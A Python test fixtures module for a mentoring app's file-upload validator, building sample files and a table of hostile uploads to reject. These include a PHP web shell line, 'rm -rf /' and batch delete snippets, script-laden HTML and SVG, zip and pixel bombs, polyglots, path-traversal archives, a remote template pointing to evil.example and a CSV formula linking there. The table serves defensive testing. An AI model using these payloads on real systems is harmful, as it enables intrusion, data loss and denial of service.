"""Files to share, made when they are needed: one of every kind, and many that must not get in, or do no harm.

``HOSTILE`` names what each is, with what the browser calls it, what is in it and the complaint. Without a complaint it
is let in, under a clean name, and does no harm.
"""

import gzip
import io
import tarfile
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from wagtail_mentoring.choices import DocumentKind
from wagtail_mentoring.models.documents import CONTENT_TYPES

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
TEXT = "Ziele für das Jahr: Führung üben.\n".encode()
SCRIPT = b"<script>document.title='executed';fetch('/executed/')</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'executed\'"/>'
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


def picture(kind, size=(8, 8), **how):
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind.upper(), **how)
    return out.getvalue()


def zipped(members, *, stored=(), comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, kind)
        archive.comment = comment
    return out.getvalue()


def office(kind, *, types=None, comment=b"", **more):
    declared = types or f"{CONTENT_TYPES[DocumentKind(kind)]}.main+xml"
    members = {
        "[Content_Types].xml": f'<Types><Override PartName="/{MAIN[kind]}" ContentType="{declared}"/></Types>',
        "_rels/.rels": "<Relationships/>",
        MAIN[kind]: "<document/>",
    }
    return zipped({**members, **more.get("members", {})}, comment=comment)


def opened(kind, *, mimetype=None, members=None):
    told = mimetype or CONTENT_TYPES[DocumentKind(kind)]
    parts = {"mimetype": told, "content.xml": "<office/>", "META-INF/manifest.xml": "<manifest/>"}
    return zipped({**parts, **(members or {})}, stored=("mimetype",))


def workbook():
    out = io.BytesIO()
    book = Workbook()
    book.active.append(["Goal", "Done"])
    book.save(out)
    return out.getvalue()


GOOD = {
    "pdf": PDF,
    "docx": office("docx"),
    "xlsx": workbook(),
    "pptx": office("pptx"),
    "odt": opened("odt"),
    "ods": opened("ods"),
    "odp": opened("odp"),
    "png": picture("png"),
    "jpg": picture("jpeg"),
    "jpeg": picture("jpeg"),
    "webp": picture("webp"),
    "gif": picture("gif"),
    "txt": TEXT,
    "md": b"# Goals\n\n* one\n",
    "csv": b"goal;done\nlead;no\n",
}


def upload(name="plan.pdf", content=PDF, content_type="application/octet-stream"):
    """Return a file as a form gets it; Django itself takes folders off its name."""
    return SimpleUploadedFile(name, content, content_type)


def in_pieces(kind):
    """A picture with 20,000 comments."""
    content = picture(kind)
    start, comment = {
        "jpeg": (2, b"\xff\xe1\x00\x09Exif\x00\x00x"),
        "gif": (content.index(b",", 13), b"\x21\xfe\x01x\x00"),
    }[kind]
    return content[:start] + comment * 20_000 + content[start:]


def damaged():
    """A document whose list of types cannot be unpacked."""
    content, start = bytearray(office("docx")), len("[Content_Types].xml") + 30
    content[start : start + 20] = b"\xff" * 20
    return bytes(content)


def endless_list():
    """A list of 200,000 parts, of which nobody says how many they are."""
    part = b"PK\x01\x02" + bytes(42)
    size = len(part * 200_000)
    end = b"PK\x05\x06" + bytes(8) + size.to_bytes(4, "little") + (31).to_bytes(4, "little") + bytes(2)
    return b"PK\x03\x04" + bytes(27) + part * 200_000 + end


def squeezed():
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/_rels/document.xml.rels", "<Relationships/>")
    return out.getvalue()


def related(relations, name="word/_rels/settings.xml.rels"):
    return office("docx", members={name: relations})


def encrypted():
    """A document whose first member says that it is encrypted."""
    content = bytearray(office("docx"))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def doubled():
    out = io.BytesIO(office("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/DOCUMENT.XML", "<other/>")
    return out.getvalue()


def huge_inside():
    """42 kB that say they are 800 MB."""
    members = {f"word/media/{number}.bin": bytes(100 * 1024 * 1024) for number in range(1)}
    content = office("docx", members=members)
    return content.replace((100 * 1024 * 1024).to_bytes(4, "little"), (800 * 1024 * 1024).to_bytes(4, "little"))


def a_bomb_of_pixels():
    head = b"\x00\x00\xff\xff\x00\x00\xff\xff\x08\x02\x00\x00\x00"
    chunk = b"IHDR" + head
    ihdr = len(head).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def tarred():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../x"), io.BytesIO())
    return out.getvalue()


KIND, CONTENT, PROGRAM, EMPTY = "cannot be shared here", "not what its name says", "macros or other", "is empty"
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"
ELF = b"\x7fELF" + bytes(60)
BOTH = picture("jpeg") + office("docx")
LONG = "ü" * 300

HOSTILE = {
    # Kinds that are not shared
    "a page": ("page.html", HTML, KIND),
    "a page of old": ("page.htm", HTML, KIND),
    "a strict page": ("page.xhtml", HTML, KIND),
    "a picture that runs": ("logo.svg", SVG, KIND),
    "a zipped picture that runs": ("logo.svgz", gzip.compress(SVG), KIND),
    "xml": ("feed.xml", b"<?xml version='1.0'?>" + SVG, KIND),
    "a script": ("a.js", b"alert(1)", KIND),
    "a module": ("a.mjs", b"alert(1)", KIND),
    "a program": ("setup.exe", EXE, KIND),
    "a library": ("a.dll", EXE, KIND),
    "a screen saver": ("a.scr", EXE, KIND),
    "a batch file": ("a.bat", b"@del *.*", KIND),
    "a shell script": ("a.sh", b"#!/bin/sh\nrm -rf /", KIND),
    "a web shell": ("a.php", b"<?php system($_GET['c']);", KIND),
    "python": ("a.py", b"import os", KIND),
    "java": ("a.jar", zipped({"META-INF/MANIFEST.MF": ""}), KIND),
    "a shortcut": ("a.lnk", b"L\x00\x00\x00", KIND),
    "a web archive": ("a.mht", b"MIME-Version: 1.0", KIND),
    "an application page": ("a.hta", HTML, KIND),
    "an archive": ("a.zip", zipped({"../../x": "x"}), KIND),
    "a tape": ("a.tar", tarred(), KIND),
    "a calendar": ("a.ics", b"BEGIN:VCALENDAR", KIND),
    "a macro document": ("a.docm", office("docx"), KIND),
    "a macro template": ("a.dotm", office("docx"), KIND),
    "a macro workbook": ("a.xlsm", office("xlsx"), KIND),
    "an old document": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), KIND),
    "rich text": ("a.rtf", rb"{\rtf1 \object}", KIND),
    "no ending": ("README", TEXT, KIND),
    "only an ending": (".htaccess", b"AddType text/html .pdf", KIND),
    "two endings": ("invoice.pdf.exe", EXE, KIND),
    "an ending with a blank": ("a.exe ", EXE, KIND),
    "an ending with a dot": ("a.exe.", EXE, KIND),
    "turned around": ("annual\u202efdp.exe", EXE, KIND),
    "turned around the other way": ("exe.\u2066gpj", EXE, KIND),
    "a second stream": ("a.pdf::$DATA", PDF, KIND),
    "a null in the name": ("a.php\x00.pdfx", b"<?php", KIND),
    # Kinds that are shared, and something else inside
    "a page named pdf": ("a.pdf", HTML, CONTENT),
    "a page named txt": ("a.txt", HTML, CONTENT),
    "a page with a mark named md": ("a.md", b"\xef\xbb\xbf\n " + HTML, CONTENT),
    "a page in UTF-16 named csv": ("a.csv", HTML.decode().encode("utf-16"), CONTENT),
    "a running picture named png": ("a.png", SVG, CONTENT),
    "a running picture named txt": ("a.txt", b"  " + SVG, CONTENT),
    "a program named pdf": ("a.pdf", EXE, CONTENT),
    "a program named txt": ("a.txt", EXE, CONTENT),
    "a Linux program named csv": ("a.csv", ELF, CONTENT),
    "a shell script named txt": ("a.txt", b"#!/bin/sh", CONTENT),
    "a web shell named md": ("a.md", b"<?php system(1);", CONTENT),
    "a pdf after a page": ("a.pdf", HTML + PDF, CONTENT),
    "a pdf without an end": ("a.pdf", PDF[:20], CONTENT),
    "a pdf that is an archive, too": ("a.pdf", PDF + zipped({"x.class": "x"}) + b"", CONTENT),
    "a picture that is a document, too": ("a.jpg", BOTH, CONTENT),
    "a document after a picture": ("a.docx", BOTH, CONTENT),
    "a script named gif": ("a.gif", b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)//", CONTENT),
    "a picture with a tail": ("a.png", picture("png") + HTML, CONTENT),
    "a moving picture with a tail": ("a.gif", picture("gif") + HTML, CONTENT),
    "a webp with a tail": ("a.webp", picture("webp") + HTML, CONTENT),
    "half a picture": ("a.png", picture("png")[:40], CONTENT),
    "four billion pixels": ("a.png", a_bomb_of_pixels(), CONTENT),
    "a picture in pieces": ("a.jpg", in_pieces("jpeg"), CONTENT),
    "a moving picture in pieces": ("a.gif", in_pieces("gif"), CONTENT),
    "another picture": ("a.png", picture("jpeg"), CONTENT),
    "an archive named docx": ("a.docx", zipped({"a": "a"}), CONTENT),
    "an empty archive named docx": ("a.docx", zipped({}), CONTENT),
    "a workbook named docx": ("a.docx", workbook(), CONTENT),
    "a broken archive": ("a.xlsx", workbook()[:-40], CONTENT),
    "an archive with a tail": ("a.pptx", office("pptx") + b"tail", CONTENT),
    "an archive with a comment": ("a.pptx", office("pptx", comment=HTML), CONTENT),
    "an archive with secrets": ("a.docx", encrypted(), CONTENT),
    "an archive that climbs": ("a.docx", office("docx", members={"../../x": "x"}), CONTENT),
    "an archive from the root": ("a.docx", office("docx", members={"/etc/passwd": "x"}), CONTENT),
    "an archive that climbs backwards": ("a.docx", office("docx", members={"..\\x": "x"}), CONTENT),
    "one name twice": ("a.docx", doubled(), CONTENT),
    "a bomb": ("a.docx", huge_inside(), CONTENT),
    "a part that grows": ("a.docx", office("docx", members={"word/_rels/a.rels": b" " * 9_000_000}), CONTENT),
    "a thousand parts": ("a.docx", office("docx", members={f"x/{n}": "" for n in range(6000)}), CONTENT),
    "a document named odt": ("a.odt", office("docx"), CONTENT),
    "another open document": ("a.odt", opened("ods"), CONTENT),
    "macros": ("a.docx", office("docx", members={"word/vbaProject.bin": "x"}), PROGRAM),
    "macros in other letters": ("a.xlsx", office("xlsx", members={"XL/VBAPROJECT.BIN": "x"}), PROGRAM),
    "macros by their type": (
        "a.docx",
        office("docx", types="application/vnd.ms-word.document.macroEnabled.main+xml"),
        PROGRAM,
    ),
    "a control": ("a.pptx", office("pptx", members={"ppt/activeX/activeX1.bin": "x"}), PROGRAM),
    "a program in a document": ("a.docx", office("docx", members={"word/embeddings/a.exe": EXE}), PROGRAM),
    "a template from afar": ("a.docx", related(TEMPLATE), PROGRAM),
    "a template from afar in UTF-16": ("a.docx", related(TEMPLATE.decode().encode("utf-16")), PROGRAM),
    "a template from afar in codes": ("a.docx", related(TEMPLATE.replace(b"External", b"Exter&#110;al")), PROGRAM),
    "a template after a bracket": ("a.docx", related(TEMPLATE.replace(b"/a.dotm", b"/a>b.dotm")), PROGRAM),
    "a template in capitals": ("a.docx", related(TEMPLATE, "word/_rels/settings.xml.RELS"), PROGRAM),
    "macros in codes": (
        "a.docx",
        office("docx", types="application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
        PROGRAM,
    ),
    "entities": ("a.docx", related(b'<!DOCTYPE x [<!ENTITY a "External">]>' + TEMPLATE), CONTENT),
    "a puzzle for a search": ("a.docx", related(b'attachedTemplate"' * 200_000), CONTENT),
    "relations without end": (
        "a.docx",
        office("docx", members={f"word/_rels/{n}.rels": f"<a>{' ' * 4_000_000}</a>" for n in range(5)}),
        CONTENT,
    ),
    "a damaged part": ("a.docx", damaged(), CONTENT),
    "a part that is squeezed in a way of its own": ("a.docx", squeezed(), CONTENT),
    "open macros": ("a.ods", opened("ods", members={"Basic/Standard/Module1.xml": "x"}), PROGRAM),
    "an open script": ("a.odt", opened("odt", members={"Scripts/python/a.py": "x"}), PROGRAM),
    "nothing": ("a.pdf", b"", EMPTY),
    "nothing at all": ("a.txt", b"", EMPTY),
    # Let in, and harmless: the name is cleaned, and nothing is ever shown or run
    "a script in the middle of a text": ("notes.txt", b"About pages:\n" + SCRIPT, None),
    "a formula": ("a.csv", b'=HYPERLINK("http://evil.example")\n', None),
    "a script in a pdf": ("a.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript>>"), None),
    "a name that climbs": ("../../x.pdf", PDF, None),
    "a name that climbs backwards": ("..\\..\\x.pdf", PDF, None),
    "a name that is encoded": ("%2e%2e%2fx.pdf", PDF, None),
    "a device": ("CON.pdf", PDF, None),
    "another device": ("lpt1.txt", TEXT, None),
    "a long name": (f"{LONG}.pdf", PDF, None),
    "a name with a line": ("a\r\nSet-Cookie: x=1.pdf", PDF, None),
    "a name with quotes": ('a"; filename="b.html.pdf', PDF, None),
    "a name with a tag": ("<script>alert(1)</script>.pdf", PDF, None),
    "a name from right to left": ("\u202etxt.exe.pdf", PDF, None),
    "a name in Arabic": ("خطة التطوير.pdf", PDF, None),
    "a name of pictures": ("🎓📈.pdf", PDF, None),
    "a name of nothing": ("\u200b.pdf", PDF, None),
    "half a letter": ("a\udcff.pdf", PDF, None),
    "a wide ending": ("a.PDF", PDF, None),
    "text of old": ("a.txt", "Größe".encode("latin-1"), None),
    "text in UTF-16": ("a.txt", "Größe".encode("utf-16"), None),
}
